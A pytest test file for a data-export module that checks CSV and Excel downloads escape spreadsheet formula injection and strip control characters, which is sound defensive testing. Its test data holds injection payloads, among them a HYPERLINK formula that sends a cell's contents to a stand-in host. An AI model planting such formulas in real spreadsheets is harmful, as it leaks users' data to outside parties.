"""Downloads: typed text stays text in CSV and Excel, numbers stay numbers."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

from civsam.exports import csv_bytes, xlsx_bytes

HOSTILE = ["=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "vanlig text"]


def test_no_cell_in_the_excel_file_is_a_formula():
    frame = pd.DataFrame({"Rubrik": HOSTILE, "Timmar": [1.5, 2, 3, 4, 5]})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"Data": frame})))["Data"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert [cell.value for cell in sheet["A"]][1:] == HOSTILE
    assert sheet["B2"].value == 1.5 and sheet.freeze_panes == "A2"


@pytest.mark.parametrize("typed", HOSTILE[:4])
def test_csv_cells_that_would_run_get_an_apostrophe(typed):
    text = csv_bytes(pd.DataFrame({"Rubrik": [typed]})).decode("utf-8-sig")
    cell = list(csv.reader(io.StringIO(text), delimiter=";"))[1][0]
    assert cell == "'" + typed


def test_csv_uses_semicolons_and_decimal_commas():
    text = csv_bytes(pd.DataFrame({"Kommun": ["Umeå"], "Timmar": [1.5]})).decode("utf-8-sig")
    assert text.splitlines() == ["Kommun;Timmar", "Umeå;1,5"]

LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"Klicka")'
CONTROL = "Förening\x1b[31m röd\x00\x07"


def test_a_csv_header_that_would_run_gets_an_apostrophe_too():
    text = csv_bytes(pd.DataFrame({LEAK: [1], "Kvartal": ["2025 K1"]})).decode("utf-8-sig")
    header = list(csv.reader(io.StringIO(text), delimiter=";"))[0]
    assert header == ["'" + LEAK, "Kvartal"]


def test_control_characters_are_left_out_of_csv_cells_and_headers():
    text = csv_bytes(pd.DataFrame({CONTROL: [CONTROL]})).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [["Förening[31m röd"], ["Förening[31m röd"]]


def test_control_characters_in_a_cell_a_header_or_a_sheet_name_still_give_an_excel_file():
    frame = pd.DataFrame({CONTROL: [CONTROL], LEAK: ["_x001B_ som Excel skriver ESC"]})
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"Avtal\x07 [2025]: K1/K2?": frame})))
    sheet = workbook.worksheets[0]
    assert sheet.title == "Avtal -2025-- K1-K2-"
    assert [cell.value for cell in sheet[1]] == ["Förening[31m röd", LEAK]
    assert sheet["A2"].value == "Förening[31m röd"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
